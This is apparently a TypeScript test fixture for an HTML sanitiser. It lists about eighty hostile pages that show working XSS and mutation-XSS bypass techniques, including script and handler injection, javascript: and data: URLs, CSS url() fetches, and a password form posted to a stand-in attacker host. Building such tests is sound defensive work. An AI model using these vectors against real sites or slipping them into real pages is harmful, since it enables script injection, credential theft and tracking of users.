/** A page that tries to run, fetch, send, cover or break out, and how. */
export type HostilePage = Readonly<{ title: string; html: string }>;

const remote = 'http://track.attacker.invalid';
const run = 'alert(1)';

/** One page for each way that a rule of the sanitiser closes. Written for these tests. */
export const hostilePages: readonly HostilePage[] = [
  // Programs
  { title: 'a script', html: `<script>${run}</script>` },
  { title: 'a script of another case, with a slash for a space', html: `<ScRiPt/x>${run}</sCrIpT >` },
  { title: 'a remote script', html: `<script src="${remote}/s.js"></script>` },
  { title: 'a script that is never closed', html: `<p>hello<script>${run}` },
  { title: 'a script in a script', html: `<scr<script>ipt>${run}</scr</script>ipt>` },
  {
    title: 'a module and an import map',
    html: `<script type=importmap>{}</script><script type=module>${run}</script>`,
  },
  { title: 'a handler', html: `<p onclick="${run}" onmouseover=${run}>hello</p>` },
  { title: 'a handler of a picture that fails', html: `<img src=x onerror=${run}>` },
  { title: 'a handler after a slash', html: `<img/src="x"/onerror=${run}>` },
  { title: 'a handler with a line break in its name', html: `<img src=x on\nerror=${run} onerror\n=\n${run}>` },
  { title: 'a handler behind a quote that is never closed', html: `<img src="x\` onerror=${run}><p title="\`">` },
  { title: 'a handler of the body', html: `<body onload=${run} onpageshow=${run}>hello</body>` },
  {
    title: 'a handler that starts by itself',
    html: `<details open ontoggle=${run}>x</details><input autofocus onfocus=${run}>`,
  },
  {
    title: 'a handler of an animation',
    html: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${run}>`,
  },
  { title: 'a handler on an element that does not exist', html: `<x onclick=${run} tabindex=1 onfocus=${run} id=x>` },
  // Addresses that run
  { title: 'a link that is a program', html: `<a href="javascript:${run}">x</a>` },
  { title: 'a link with a tab in its scheme', html: `<a href="java\tscript:${run}">x</a>` },
  { title: 'a link with entities in its scheme', html: `<a href="&#106;avascript&colon;${run}">x</a>` },
  { title: 'a link that is a page', html: `<a href="data:text/html,<script>${run}</script>">x</a>` },
  { title: 'a link in a map', html: `<img usemap=#m src=x><map name=m><area href="javascript:${run}"></map>` },
  { title: 'a link of SVG', html: `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>` },
  { title: 'a picture that is a program', html: `<img src="javascript:${run}"><img src="vbscript:x">` },
  // Things that are sent
  {
    title: 'a form',
    html: `<form action="${remote}/f"><input name=password type=password><button>Send</button></form>`,
  },
  { title: 'a button with an address of its own', html: `<button formaction="javascript:${run}">x</button>` },
  { title: 'an input that is a picture', html: `<input type=image src="${remote}/i.png">` },
  // Other documents
  { title: 'a frame', html: `<iframe src="${remote}/"></iframe>` },
  { title: 'a frame with a page in it', html: `<iframe srcdoc="<script>${run}</script>"></iframe>` },
  { title: 'frames instead of a body', html: `<frameset><frame src="javascript:${run}"></frameset>` },
  { title: 'an object', html: `<object data="${remote}/o.swf"><param name=x value=y></object>` },
  {
    title: 'an embedded program',
    html: `<embed src="data:text/html,<script>${run}</script>"><applet code=x></applet>`,
  },
  { title: 'a portal and a dialog', html: `<portal src="${remote}"></portal><dialog open>x</dialog>` },
  // The document itself
  { title: 'a refresh', html: `<meta http-equiv=refresh content="0;url=${remote}/r">` },
  {
    title: 'a policy that would allow more',
    html: `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  },
  { title: 'a base', html: `<base href="${remote}/"><img src="x.png">` },
  {
    title: 'a style sheet',
    html: `<link rel=stylesheet href="${remote}/s.css"><link rel=prefetch href="${remote}/p">`,
  },
  {
    title: 'a hint to connect',
    html: `<link rel=dns-prefetch href="//track.attacker.invalid"><link rel=preconnect href="${remote}">`,
  },
  // Things that are fetched
  { title: 'a remote picture', html: `<img src="${remote}/p.png" srcset="${remote}/q.png 2x" alt="Logo">` },
  {
    title: 'a picture without a scheme',
    html: '<img src="//track.attacker.invalid/p.png"><img src="\\\\track.attacker.invalid\\p">',
  },
  {
    title: 'pictures to choose from',
    html: `<picture><source srcset="${remote}/w.webp"><img src="${remote}/p.png"></picture>`,
  },
  {
    title: 'a background',
    html: `<body background="${remote}/b.png"><table background="${remote}/t.png"><tr><td background="${remote}/d.png">x</table>`,
  },
  {
    title: 'sound and film',
    html: `<video src="${remote}/v.mp4" poster="${remote}/v.png" autoplay></video><audio src="${remote}/a.mp3" autoplay></audio><bgsound src="${remote}/b.mid">`,
  },
  {
    title: 'a drawing in a data URL',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  },
  {
    title: 'a drawing that says it is a PNG',
    html: `<img src="data:image/png;base64,${Buffer.from(`<svg onload='${run}'/>`).toString('base64')}">`,
  },
  // Styles
  {
    title: 'a style that fetches',
    html: `<p style="background:url(${remote}/1);background-image:url('${remote}/2');list-style:url(${remote}/3)">x</p>`,
  },
  {
    title: 'a style that fetches by other names',
    html: `<p style="cursor:url(${remote}/c),auto;content:url(${remote}/d);border-image:url(${remote}/e) 1;background:image-set('${remote}/f' 1x)">x</p>`,
  },
  {
    title: 'a style with escapes',
    html: `<p style="backg\\72ound:\\75rl(${remote}/1);background:u\\72l(${remote}/2)">x</p>`,
  },
  {
    title: 'a style with comments in its words',
    html: `<p style="background:u/**/rl(${remote}/1);back/**/ground:url/**/(${remote}/2)">x</p>`,
  },
  {
    title: 'a style that leaves its place',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  },
  {
    title: 'a style that is moved over others',
    html: '<div style="margin-top:-500px;transform:scale(9);translate:10px;inset:0;position:absolute">x</div>',
  },
  {
    title: 'a style that runs in old browsers',
    html: `<p style="width:expression(${run});behavior:url(x.htc);-moz-binding:url(${remote}/x#y)">x</p>`,
  },
  {
    title: 'a style that ends its attribute',
    html: `<p style='color:red"><img src=x onerror=${run}>'>x</p><p style="color:red&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</p>`,
  },
  {
    title: 'a style sheet in the page',
    html: `<style>@import "${remote}/i.css";body{background:url(${remote}/b)}@font-face{font-family:x;src:url(${remote}/f)}</style>`,
  },
  { title: 'a style sheet that is never closed', html: `<p>x<style>p{background:url(${remote}/b)}` },
  { title: 'a style sheet that ends early', html: `<style><img src="</style><img src=x onerror=${run}//"></style>` },
  {
    title: 'variables and functions of styles',
    html: `<p style="--a:url(${remote}/v);background:var(--a);width:calc(100% * 9);filter:url(${remote}/#f)">x</p>`,
  },
  // Mutations: what a browser makes of it when it reads it a second time
  {
    title: 'a paragraph that ends a raw element',
    html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  },
  { title: 'a title that ends early', html: `<title><p title="</title><img src=x onerror=${run}>"></title>` },
  {
    title: 'a text field that ends early',
    html: `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  },
  {
    title: 'listings and plain text',
    html: `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><listing>&lt;img src=x onerror=${run}&gt;</listing><plaintext><img src=x onerror=${run}>`,
  },
  { title: 'a style in SVG, which is no raw text there', html: `<svg><style><img src=x onerror=${run}></style></svg>` },
  {
    title: 'a style in MathML in a table',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  },
  {
    title: 'a form in a form in MathML',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  },
  {
    title: 'a foreign object',
    html: `<svg><foreignObject><p><iframe srcdoc="<script>${run}</script>"></iframe></p></foreignObject></svg>`,
  },
  {
    title: 'SVG that animates an address',
    html: `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a><set attributeName=onload to=${run} /></svg>`,
  },
  {
    title: 'SVG that uses another drawing',
    html: `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/><image href="${remote}/i"/></svg>`,
  },
  {
    title: 'an action of MathML',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  },
  {
    title: 'a template',
    html: `<template><img src=x onerror=${run}></template><template shadowrootmode=open><script>${run}</script></template>`,
  },
  { title: 'CDATA', html: `<svg><![CDATA[><img src=x onerror=${run}>]]></svg><![CDATA[<img src=x onerror=${run}>]]>` },
  {
    title: 'comments that end otherwise',
    html: `<!--><img src=x onerror=${run}>--><!-- --!><img src=x onerror=${run}><!--x`,
  },
  {
    title: 'conditional comments',
    html: `<!--[if gte IE 4]><script>${run}</script><![endif]--><![if true]><img src=x onerror=${run}><![endif]>`,
  },
  {
    title: 'processing instructions and declarations',
    html: `<?xml version="1.0"?><?php ${run} ?><!DOCTYPE x [<!ENTITY e "<img src=x onerror=${run}>">]>&e;`,
  },
  {
    title: 'text of entities',
    html: `&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x onerror=${run}&#62;&LT;svg onload=${run}&GT;`,
  },
  {
    title: 'entities without their end',
    html: `<p title=&quot;&gt;&ltimg src=x onerror=${run}&gt>&ltimg src=x onerror=${run}&gt</p>`,
  },
  {
    title: 'NULs and control characters',
    html: `<scr\0ipt>${run}</scr\0ipt><img\0src=x\0onerror=${run}><\x0bimg src=x onerror=${run}>`,
  },
  {
    title: 'letters that fold to others',
    html: `<ſcript>${run}</ſcript><ımg src=x onerror=${run}><img ſrc="${remote}/x">`,
  },
  { title: 'UTF-7, which nobody may guess', html: `+ADw-script+AD4-${run}+ADw-/script+AD4-` },
  {
    title: 'ISO-2022-JP, which would eat a quote',
    html: `<meta charset=iso-2022-jp><img alt="\x1b$B" src=x><p title="\x1b(B" onclick="${run}">`,
  },
  { title: 'half tags', html: `<<img src=x onerror=${run}>><img src=x onerror=${run}//<p <b onclick=${run}>x</` },
  {
    title: 'attributes twice',
    html: `<img src=x alt=a alt="b" ONERROR=${run} onerror=x><a href=x href="javascript:${run}">x</a>`,
  },
  {
    title: 'names of the prototype',
    html: `<__proto__ onclick=${run}>x</__proto__><p __proto__=x constructor=y toString=z>x</p><constructor>x</constructor>`,
  },
  {
    title: 'names that clobber',
    html: '<a id=document name=cookie></a><img name=body id=location><form id=x><input name=parentNode></form>',
  },
  // Sheer size
  { title: 'elements within elements', html: `${'<div>'.repeat(20_000)}<img src=x onerror=${run}>` },
  {
    title: 'attributes without end',
    html: `<p ${Array.from({ length: 20_000 }, (_, index) => `a${index}=x`).join(' ')} onclick=${run}>x</p>`,
  },
  {
    title: 'a cell over millions',
    html: '<table><tr><td colspan=99999999 rowspan=99999999 width=99999999 style="width:99999999px">x</table>',
  },
  { title: 'unclosed raw elements', html: '<noscript><title><iframe>'.repeat(5_000) },
];
